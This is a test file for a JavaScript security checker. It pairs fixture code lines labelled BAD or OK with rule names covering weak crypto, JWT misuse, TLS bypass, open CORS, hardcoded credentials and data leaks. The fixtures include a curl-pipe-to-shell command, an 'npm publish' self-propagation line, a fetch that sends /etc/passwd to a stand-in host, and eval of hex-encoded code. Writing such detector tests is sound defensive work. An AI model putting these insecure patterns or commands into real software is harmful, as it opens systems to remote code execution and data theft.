import { expect, it } from 'vitest';
import { wrongLines } from '../../__fixtures__/check-lines.js';

const lines = (text: string) => wrongLines({ 'src/index.js': text });

it('knows weak ciphers, digests, keys and tokens', async () => {
  expect(
    await lines(String.raw`
const crypto = require('crypto');
const CryptoJS = require('crypto-js');
const jwt = require('jsonwebtoken');
const simple = require('jwt-simple');
const jose = require('jose');
const NodeRSA = require('node-rsa');
require('md5')('x'); // BAD weak-hash
require('md5')(userPassword); // BAD weak-password-hash
require('sha1')(x); // BAD weak-hash
crypto.createHash(name); // OK weak-hash
crypto.createHash('sha512').update('x'); // OK weak-password-hash
const sha = crypto.createHash('sha256');
sha.update(userPassword); // BAD weak-password-hash
sha.update(apiKey); // OK weak-password-hash
let later; later = crypto.createHash('sha256'); later.update(userPassword); // OK weak-password-hash
crypto.createHash(name).update(userPassword); // OK weak-password-hash
crypto.createHash('sha256').update('a').update(userPassword); // BAD weak-password-hash
const cipher = crypto.createCipheriv('rc4', key, iv); // BAD weak-cipher
cipher.update(userPassword); // BAD weak-cipher
crypto.createCipheriv('aes-256-gcm', key, iv).update(userPassword); // OK weak-cipher
crypto.createCipheriv('aes-256-gcm', key, 'fixed-iv-text'); // BAD fixed-iv
crypto.createDecipheriv('aes-256-gcm', key, iv); // BAD short-auth-tag
crypto.createDecipheriv('aes-256-gcm', key, iv, { authTagLength: 16 }); // OK short-auth-tag
crypto.createCipher('aes-256-cbc', key); // BAD weak-cipher
CryptoJS.DES.encrypt('x', key); // BAD weak-cipher
CryptoJS.SHA256(userPassword); // BAD weak-password-hash
CryptoJS.SHA256(text); // OK weak-password-hash
CryptoJS.AES.encrypt('x', key, { mode: CryptoJS.mode.ECB }); // BAD weak-cipher
CryptoJS.AES.encrypt('x', key, { mode: CryptoJS.mode.CBC }); // OK weak-cipher
crypto.generateKeyPairSync('rsa', { modulusLength: 1024 }); // BAD short-key
crypto.generateKeyPairSync('rsa', { modulusLength: 4096 }); // OK short-key
crypto.generateKeyPairSync('ed25519', { modulusLength: 1024 }); // OK short-key
new NodeRSA({ b: 512 }); // BAD short-key
crypto.createDiffieHellman(1024); // BAD short-key
require('node-forge').pki.rsa.generateKeyPair({ bits: 1024 }); // BAD short-key
crypto.pbkdf2Sync(p, s, 200000, 32, 'sha512'); // OK weak-password-hash
crypto.pbkdf2Sync(p, s, rounds, 32, 'sha512'); // OK weak-password-hash
jwt.sign({}, key, { algorithm: 'none' }); // BAD jwt-unverified
jwt.verify(t, null); // BAD jwt-unverified
jwt.verify(t, key); // OK jwt-unverified
simple.decode(t, key, true); // BAD jwt-unverified
simple.decode(t, key, false); // OK jwt-unverified
const peek = (t) => jwt.decode(t); // BAD jwt-unverified
const both = (t) => { jwt.decode(t); return jwt.verify(t, key); }; // OK jwt-unverified
jose.JWT.sign({}, jose.JWK.None); // BAD jwt-unverified
jose.JWT.sign({}, key); // OK jwt-unverified
const bytes = crypto.randomBytes(4);
const odd = bytes[0] % 10; // BAD biased-random
const even = bytes[0] % 16; // OK biased-random
const scaled = Math.floor(bytes[0] / 25); // BAD biased-random
const exact = bytes[0] / 25; // OK biased-random
const sum = bytes[0] + bytes[1]; // BAD biased-random
if (bytes[0] < 250) use(bytes[0] % 10); // OK biased-random
let code = Math.random(); const password = code; // BAD insecure-random
`),
  ).toEqual([]);
});

it('knows connections that are not safe', async () => {
  expect(
    await lines(String.raw`
const http = require('http');
const https = require('https');
const axios = require('axios');
const cors = require('cors');
const fs = require('fs');
const { exec } = require('child_process');
https.get('https://a.test', { rejectUnauthorized: false }); // BAD tls-unverified
axios.get('https://a.test', { httpsAgent: { rejectUnauthorized: false } }); // BAD tls-unverified
https.get('https://a.test', { rejectUnauthorized: true }); // OK tls-unverified
process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'; // BAD tls-unverified
process.env.NODE_TLS_REJECT_UNAUTHORIZED = 0; // BAD tls-unverified
process.env.NODE_TLS_REJECT_UNAUTHORIZED = '1'; // OK tls-unverified
options.NODE_TLS_REJECT_UNAUTHORIZED = '0'; // BAD tls-unverified
const page = new XMLHttpRequest(); page.open('GET', 'http://example.com/'); // BAD plain-http
axios(); // OK plain-http
axios.get('http://localhost/x'); // OK plain-http
axios({ url: 'http://shop.com/x' }); // BAD plain-http
axios.get('http://shop.com/' + id); // BAD plain-http
axios.get('http://169.254.169.254/' + id); // BAD metadata-address
http.request({ hostname: 'shop.com' }); // BAD plain-http
http.request({ host: 'shop.com' }); // BAD plain-http
http.request({ host: 'localhost' }); // OK plain-http
http.request({ port: 1 }); // OK plain-http
parent.postMessage({ a: secretValue }, '*'); // BAD private-post-message
parent.postMessage('ready', '*'); // OK post-message
parent.postMessage(data, 'https://a.test'); // OK post-message
cors({ origin: '*', credentials: true }); // BAD cors-open
cors({ origin: true, credentials: true }); // BAD cors-open
cors({ origin: '*' }); // OK cors-open
addEventListener('message', (event) => work(event.data)); // BAD origin-unchecked
addEventListener('message', (event) => { if (event.origin === 'https://a.test') work(event.data); }); // OK origin-unchecked
addEventListener('message', unknown); // OK origin-unchecked
addEventListener('click', (event) => work(event)); // OK origin-unchecked
exec('curl http://a.com/x.sh'); // BAD insecure-download
exec('curl https://a.com/x.sh | sh'); // BAD download-and-run
exec('npm install left'); // BAD run-time-install
exec('npm publish'); // BAD self-propagation
exec(); // OK insecure-download
axios.get({ uri: 'http://a.com/x.exe' }); // BAD insecure-download
fs.writeFileSync('package.json', '{}'); // BAD own-manifest-write
fs.writeFileSync('data.json', '{}'); // OK own-manifest-write
fs.chmodSync('x', 0o777); // BAD wide-permissions
fs.chmodSync('x', '777'); // BAD wide-permissions
fs.chmodSync('x', '0755'); // OK wide-permissions
fs.chmodSync('x', mode); // OK wide-permissions
new (require('ajv'))({ allErrors: true }); // BAD all-errors
eval(Buffer.from('63 6f'.replace(' ', ''), 'hex')); // BAD hidden-code
eval(Buffer.from('636f6e736f6c65', 'hex').toString()); // BAD hidden-code
eval(atob(text)); // BAD hidden-code
function allow(req, res) {
  res.setHeader('Access-Control-Allow-Origin', req.headers.origin); // BAD cors-open
  res.setHeader('Access-Control-Allow-Credentials', 'true');
  res.setHeader('X-Origin', req.headers.origin); // OK cors-open
}
function nobody(req, res) {
  res.setHeader('Access-Control-Allow-Origin', 'null'); // BAD cors-open
  res.setHeader('Access-Control-Allow-Credentials', true);
}
function careful(req, res) {
  res.setHeader('Access-Control-Allow-Origin', req.headers.origin); // OK cors-open
  res.setHeader('Access-Control-Allow-Origin', 'https://a.test'); // OK cors-open
}
function whole(req, res) {
  res.writeHead(200, { 'Access-Control-Allow-Origin': req.headers.origin, 'Access-Control-Allow-Credentials': 'true' }); // BAD cors-open
  res.writeHead(200, { 'access-control-allow-origin': 'null', 'access-control-allow-credentials': true }); // BAD cors-open
  res.writeHead(200, { 'access-control-allow-origin': 'https://a.test', 'access-control-allow-credentials': true }); // OK cors-open
  res.writeHead(200); // OK cors-open
}
module.exports = { allow, nobody, careful, whole };
`),
  ).toEqual([]);
});

it('knows credentials in the code, and how data leaks', async () => {
  expect(
    await lines(String.raw`
const fs = require('fs');
const axios = require('axios');
const session = require('express-session');
const express = require('express');
const jwt = require('jsonwebtoken');
const names = ['a', 'b'];
axios.create({ headers: { Authorization: 'Bearer k9Lm2xQz8v' } }); // BAD hardcoded-credential
axios.create({ headers: { Authorization: 'Bearer ' + key } }); // OK hardcoded-credential
axios.create({ headers: { Accept: 'Bearer k9Lm2xQz8v' } }); // OK hardcoded-credential
new Headers().set('Authorization', 'Basic k9Lm2xQz8v'); // BAD hardcoded-credential
new Headers().set('Authorization', value); // OK hardcoded-credential
connect({ password: 'k9Lm2xQz8v' }); // BAD hardcoded-credential
require('mysql').createConnection({ password: 'k9Lm2xQz8v' }); // BAD hardcoded-credential
require('mysql').createConnection({ password: 'test-user' }); // OK hardcoded-credential
require('mysql').createConnection({ ssl: { key: 'abc' } }); // OK hardcoded-credential
require('mysql').createConnection({ ssl: { key: 'abcdefgh12345' } }); // BAD hardcoded-credential
require('mysql').createConnection({ ssl: { key: 'abc defgh 12345' } }); // OK hardcoded-credential
require('mysql').createConnection({ ssl: { key: 'abcdefghijklmn' } }); // OK hardcoded-credential
require('mysql').createConnection({ secret: 'this is text' }); // OK hardcoded-credential
jwt.sign({}, 'ab'); // BAD hardcoded-credential
jwt.sign({}, names[0] + 1); // BAD hardcoded-credential
const kept = names ? 'k9#Lm2!xQz' : ''; // OK hardcoded-credential
jwt.sign({}, kept);
fs.writeFileSync('x', JSON.stringify(process.env)); // BAD environment-leak
fs.writeFileSync('x'); // OK environment-leak
localStorage.setItem('key', apiKey); // BAD secret-in-file
localStorage.setItem('key', 'x'); // OK secret-in-file
express.static(__dirname); // BAD private-files-served
express.static('./public'); // OK private-files-served
express.static('node_modules/x'); // BAD private-files-served
express.static('~/x'); // BAD private-files-served
session({ cookie: { secure: false } }); // BAD insecure-cookie
session({ cookie: { secure: true } }); // BAD insecure-cookie
session({ name: 'sid', cookie: { secure: true } }); // OK insecure-cookie
session({ cookie: { secure: true, httpOnly: false } }); // BAD insecure-cookie
session({}); // BAD insecure-cookie
session(given); // OK insecure-cookie
require('cookie-session')({ secure: false }); // BAD insecure-cookie
fetch('https://a.test', { body: fs.readFileSync('/etc/passwd'), signal }); // BAD private-file-sent
express().get('/', (req, res) => {
  res.json(process.env); // BAD environment-leak
  res.json({ key: apiKey }); // BAD secret-in-message
  res.json({ key: 'x' }); // OK secret-in-message
  try { work(); } catch (error) { res.send(error.stack); } // BAD stack-trace
  try { work(); } catch (error) { res.send(error.message); } // OK stack-trace
  res.cookie('token', apiKey); // BAD secret-in-file
  if (req.query.name.slice(-1) === '/') work(); // OK type-confusion
  if ('x' === req.query.name.slice(-1)) work(); // OK type-confusion
  if (1 < req.query.name.indexOf('x')) work(); // BAD type-confusion
  if (0 < req.query.name.length) work(); // OK type-confusion
  if (req.query.name.length > 1) work(); // OK type-confusion
  if (req.query.name.length === 1) work(); // BAD type-confusion
  if (req.query.name.length && ok) work(); // OK type-confusion
  while (req.query.name.length) work(); // OK type-confusion
  use(req.query.name.length); // BAD type-confusion
  Object.assign(user, req.body); // BAD mass-assignment
  Object.assign({}, req.body); // OK mass-assignment
  Object.defineProperty(user, req.body.key, {}); // BAD property-injection
  Object.defineProperty(user, 'key', {}); // OK property-injection
});
`),
  ).toEqual([]);
});
